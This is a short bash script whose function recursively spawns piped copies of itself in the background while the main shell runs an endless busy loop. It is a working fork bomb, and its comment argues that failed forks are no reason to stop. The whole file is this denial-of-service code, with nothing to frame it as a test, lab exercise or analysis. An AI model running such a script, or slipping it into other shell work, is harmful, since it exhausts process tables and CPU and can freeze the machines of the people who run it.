#!/bin/bash
# Children that cannot be made are no reason to stop: the shell that began needs none any more, the limit of processes holds, and
# time ends it. (A shell that cannot fork tries for fifteen seconds, and gives up then.)
fork_on() {
    fork_on | fork_on &
    fork_on | fork_on &
    sleep 3600
}

fork_on &
while true; do
    :
done
